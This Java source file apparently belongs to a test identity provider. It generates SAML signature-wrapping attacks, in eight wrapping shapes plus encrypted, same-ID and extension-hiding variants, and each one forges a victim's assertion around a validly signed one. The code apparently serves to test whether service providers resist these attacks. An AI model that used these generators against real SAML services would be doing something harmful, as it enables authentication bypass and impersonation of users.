package se.byggsten.testidp.attack.internal;

import java.util.List;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import se.byggsten.testidp.protocol.internal.AnswerDraft;
import se.byggsten.testidp.protocol.internal.AnswerWriter;
import se.byggsten.testidp.protocol.internal.Names;
import se.byggsten.testidp.protocol.internal.Xml;
import se.byggsten.testidp.protocol.internal.XmlEncryption;

/**
 * Wraps what is signed in what is not: the signature holds, over something that nobody reads.
 *
 * <p>Source: Somorovsky and others, On Breaking SAML: Be Whoever You Want to Be (2012). Shapes 1
 * and 2 are of the response, 3 to 8 of the assertion; those that make sense for a response are made
 * of it too.
 */
final class Wrapping {
  private Wrapping() {}

  /** Wraps a signed response in a forged one. */
  static String response(Scene scene, int shape) {
    Document document = Xml.parse(scene.encrypted(scene.victim()));
    Element forged = document.getDocumentElement();
    Element original =
        (Element) document.importNode(Xml.parse(scene.right()).getDocumentElement(), true);
    Element signature = Scene.signatureOf(original);
    switch (shape) {
      case 1 -> {
        Scene.afterIssuer(forged, signature);
        signature.appendChild(original);
      }
      case 2 -> {
        Scene.afterIssuer(forged, signature);
        forged.insertBefore(original, signature);
      }
      case 4 -> forged.appendChild(original);
      case 7 -> {
        Element extensions = document.createElementNS(Names.SAMLP, "saml2p:Extensions");
        extensions.appendChild(original);
        Scene.afterIssuer(forged, extensions);
      }
      default -> {
        Scene.afterIssuer(forged, signature);
        signature.appendChild(object(document, original));
      }
    }
    return Xml.write(document);
  }

  /**
   * Where the signed assertion keeps its place it must be worth nothing by itself, as that of an
   * earlier login is: else who reads it rightly lets the attacker in, and does nothing wrong.
   */
  private static AnswerDraft ofEarlierLogin(Scene scene) {
    return scene
        .draft()
        .set(AnswerDraft.Part.ASSERTION_IN_RESPONSE_TO, scene.request().id() + "-earlier");
  }

  /** A forged assertion after the signed one, for whoever verifies the first and reads the last. */
  static String appended(Scene scene) {
    Document document = Xml.parse(scene.assertionSigned(scene.draft()));
    Element forged = Xml.parse(scene.victim().assertion()).getDocumentElement();
    document.getDocumentElement().appendChild(document.importNode(forged, true));
    return Xml.write(document);
  }

  /** The same, encrypted by the attacker. */
  static String appendedEncrypted(Scene scene) {
    return AnswerWriter.encrypted(appended(scene), scene.service());
  }

  /** Wraps a signed response in a forged one that has the same id. */
  static String responseOfTheSameId(Scene scene) {
    Document document = Xml.parse(response(scene, 1));
    Element forged = document.getDocumentElement();
    Element original = Xml.all(forged, Names.SAMLP, "Response").get(0);
    forged.setAttribute("ID", original.getAttribute("ID"));
    return Xml.write(document);
  }

  /** Wraps a signed assertion with a forged one, in a response that is not signed. */
  static String assertion(Scene scene, int shape) {
    AnswerDraft right = shape == 7 ? ofEarlierLogin(scene) : scene.draft();
    Document document = Xml.parse(scene.assertionSigned(right));
    Element response = document.getDocumentElement();
    Element original = Scene.assertionOf(document);
    Element signature = Scene.signatureOf(original);
    Element forged =
        (Element)
            document.importNode(Xml.parse(scene.victim().assertion()).getDocumentElement(), true);
    switch (shape) {
      case 3 -> response.insertBefore(forged, original);
      case 4 -> {
        response.replaceChild(forged, original);
        forged.appendChild(original);
      }
      case 5 -> {
        response.replaceChild(forged, original);
        Scene.afterIssuer(forged, signature);
        response.appendChild(original);
      }
      case 6 -> {
        response.replaceChild(forged, original);
        Scene.afterIssuer(forged, signature);
        signature.appendChild(original);
      }
      case 7 -> {
        Element extensions = document.createElementNS(Names.SAMLP, "saml2p:Extensions");
        extensions.appendChild(forged);
        Scene.afterIssuer(response, extensions);
      }
      default -> {
        response.replaceChild(forged, original);
        Scene.afterIssuer(forged, signature);
        signature.appendChild(object(document, original));
      }
    }
    return Xml.write(document);
  }

  /** The same, encrypted: anybody can encrypt for the service, its key is public. */
  static String encrypted(Scene scene, int shape) {
    Document document = Xml.parse(assertion(scene, shape));
    Element response = document.getDocumentElement();
    for (Element parent : parents(response)) {
      for (Element assertion : Xml.children(parent, Names.SAML, "Assertion")) {
        XmlEncryption.encrypt(
            assertion,
            "EncryptedAssertion",
            XmlEncryption.Method.of(scene.service()),
            scene.service());
      }
    }
    return Xml.write(document);
  }

  /**
   * Signs an assertion from the place where the response's own signature stands; what is signed
   * lies aside and a forged assertion stands where one is read.
   */
  static String unsignedReread(Scene scene) {
    Document document = Xml.parse(assertion(scene, 3));
    Element response = document.getDocumentElement();
    Element original = Xml.children(response, Names.SAML, "Assertion").get(1);
    Element signature = Scene.signatureOf(original);
    Scene.afterIssuer(response, signature);
    Element extensions = document.createElementNS(Names.SAMLP, "saml2p:Extensions");
    response.insertBefore(extensions, signature.getNextSibling());
    extensions.appendChild(original);
    return Xml.write(document);
  }

  private static List<Element> parents(Element response) {
    List<Element> extensions = Xml.children(response, Names.SAMLP, "Extensions");
    return extensions.isEmpty() ? List.of(response) : List.of(extensions.get(0), response);
  }

  private static Element object(Document document, Element content) {
    Element object = document.createElementNS(Names.DS, "ds:Object");
    object.appendChild(content);
    return object;
  }
}
